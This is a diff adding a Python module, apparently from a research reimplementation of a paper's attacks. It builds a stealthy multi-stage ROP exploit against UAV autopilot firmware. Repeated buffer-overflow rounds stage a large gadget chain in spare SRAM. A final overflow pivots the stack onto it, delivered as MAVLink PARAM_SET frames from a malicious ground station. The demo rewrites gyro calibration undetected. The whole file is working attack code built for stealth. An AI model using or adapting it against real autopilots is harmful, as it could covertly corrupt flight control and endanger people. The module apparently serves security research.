@@ -1,0 +1,161 @@
+"""ROP Attack V3 — stealthy attack with arbitrarily large payload (§IV-E).
+
+V2's payload is bounded by the vulnerable buffer.  V3 removes the bound
+with the paper's *trampoline* technique, built from the same two gadgets:
+
+1. **Staging rounds** — each round is a complete V2 clean-return attack
+   whose only effect is to ``write_mem`` the next few bytes of a large
+   chain into an unused region of SRAM.  The firmware keeps flying and
+   telemetering between rounds; the ground station sees nothing.
+2. **Trigger round** — a minimal overflow whose smashed return address is
+   ``stk_move`` with r28/r29 pointing at the staged region: SP trampolines
+   out of the buffer and the staged chain (any length, "bounded only by
+   the amount of free memory") executes.  Its tail carries the same repair
+   writes and home hop as V2, so even the big payload returns cleanly.
+"""
+
+from __future__ import annotations
+
+from typing import List, Optional, Sequence
+
+from ..binfmt.image import FirmwareImage
+from ..errors import AttackError
+from ..mavlink.messages import PARAM_SET
+from ..mavlink.packet import HEADER_LENGTH
+from ..uav.autopilot import Autopilot
+from ..uav.groundstation import MaliciousGroundStation
+from .chain import Write3
+from .results import AttackOutcome, deliver
+from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address
+from .v2_stealthy import StealthyAttack
+
+# Unused SRAM where the large payload is staged: far above the firmware's
+# variables (~0x200..0x300) and far below the stack (~0x21a0+).
+DEFAULT_STAGING_BASE = 0x1000
+
+
+class TrampolineAttack:
+    """Builds the multi-round staged attack."""
+
+    def __init__(
+        self,
+        image: FirmwareImage,
+        facts: Optional[RuntimeFacts] = None,
+        staging_base: int = DEFAULT_STAGING_BASE,
+    ) -> None:
+        self.image = image
+        self.facts = facts if facts is not None else derive_runtime_facts(image)
+        self.staging_base = staging_base
+        self.v2 = StealthyAttack(image, self.facts)
+        self.builder = self.v2.builder
+
+    # -- construction ------------------------------------------------------
+
+    def staged_chain(self, writes: Sequence[Write3]) -> bytes:
+        """The large chain to plant at ``staging_base``.
+
+        Identical structure to a V2 in-buffer chain — a stk_move landing
+        pad, the write bounces, the repair writes, the home hop — but with
+        no size constraint.
+        """
+        return self.builder.chain_block(
+            list(writes) + self.v2.repair_writes(),
+            final_ret_word=self.builder.stk.entry_word,
+            final_regs=self.v2.home_hop_regs(),
+        )
+
+    def staging_rounds(self, staged: bytes, writes_per_round: int = 1) -> List[bytes]:
+        """V2 payloads that incrementally plant ``staged`` in SRAM."""
+        if writes_per_round < 1:
+            raise AttackError("need at least one staging write per round")
+        chunk_writes = self.builder.split_writes(self.staging_base, staged)
+        rounds: List[bytes] = []
+        for start in range(0, len(chunk_writes), writes_per_round):
+            group = chunk_writes[start : start + writes_per_round]
+            rounds.append(self.v2.attack_bytes(group))  # raises if oversized
+        return rounds
+
+    def trigger_round(self) -> bytes:
+        """The final overflow: trampoline SP onto the staged chain."""
+        facts = self.facts
+        hop = self.staging_base - 1
+        body = bytes([0xEE]) * (facts.buffer_size - HEADER_LENGTH)
+        body += bytes([(hop >> 8) & 0xFF, hop & 0xFF])  # saved r29, r28
+        from .chain import ret_address_bytes
+
+        body += ret_address_bytes(self.builder.stk.entry_word)
+        return body
+
+    def all_rounds(self, writes: Sequence[Write3], writes_per_round: int = 1) -> List[bytes]:
+        staged = self.staged_chain(writes)
+        if self.staging_base + len(staged) >= self.facts.buffer_start - 64:
+            raise AttackError(
+                f"staged chain of {len(staged)} bytes collides with the stack"
+            )
+        return self.staging_rounds(staged, writes_per_round) + [self.trigger_round()]
+
+    # -- delivery ------------------------------------------------------------
+
+    def execute(
+        self,
+        autopilot: Autopilot,
+        gcs: Optional[MaliciousGroundStation] = None,
+        payload: Optional[Sequence[Write3]] = None,
+        observe_ticks: int = 30,
+    ) -> AttackOutcome:
+        """Deliver a large payload: rewrite the whole gyro calibration,
+        flip the navigation mode, and plant a marker string — more than a
+        single V2 buffer chain could carry."""
+        station = gcs if gcs is not None else MaliciousGroundStation()
+        if payload is None:
+            payload = self.demo_payload()
+        frames = [
+            station.exploit_burst(PARAM_SET.msg_id, round_bytes)
+            for round_bytes in self.all_rounds(payload)
+        ]
+        watch = self._expected_effects(payload)
+        return deliver(
+            autopilot,
+            station,
+            frames,
+            observe_ticks=observe_ticks,
+            watch_variables=watch,
+            name="rop-v3-trampoline",
+        )
+
+    def demo_payload(self) -> List[Write3]:
+        """Six 3-byte writes (18 bytes of effect) — beyond V2's capacity.
+
+        Targets are variables nothing in the control loop rewrites, so the
+        post-attack observation window sees exactly the attacker's bytes:
+        the full 3-axis gyro calibration plus a 12-byte marker across
+        ``accel_value``/``attitude_state``.
+        """
+        gyro = variable_address(self.image, "gyro_offset")
+        accel = variable_address(self.image, "accel_value")
+        writes = self.builder.split_writes(
+            gyro,
+            (0x0040).to_bytes(2, "little")
+            + (0x0080).to_bytes(2, "little")
+            + (0x00C0).to_bytes(2, "little"),
+        )
+        writes += self.builder.split_writes(accel, b"TRAMPOLINE!\x00")
+        return writes
+
+    def _expected_effects(self, writes: Sequence[Write3]) -> dict:
+        """Translate Write3s overlapping known variables into expectations."""
+        expectations = {}
+        for name in ("gyro_offset", "accel_value", "attitude_state"):
+            symbol = self.image.symbols.get(name)
+            base = variable_address(self.image, name)
+            current = bytearray(symbol.size)
+            touched = False
+            for write in writes:
+                for index, value in enumerate(write.values):
+                    address = write.target + index
+                    if base <= address < base + symbol.size:
+                        current[address - base] = value
+                        touched = True
+            if touched:
+                expectations[name] = int.from_bytes(bytes(current), "little")
+        return expectations
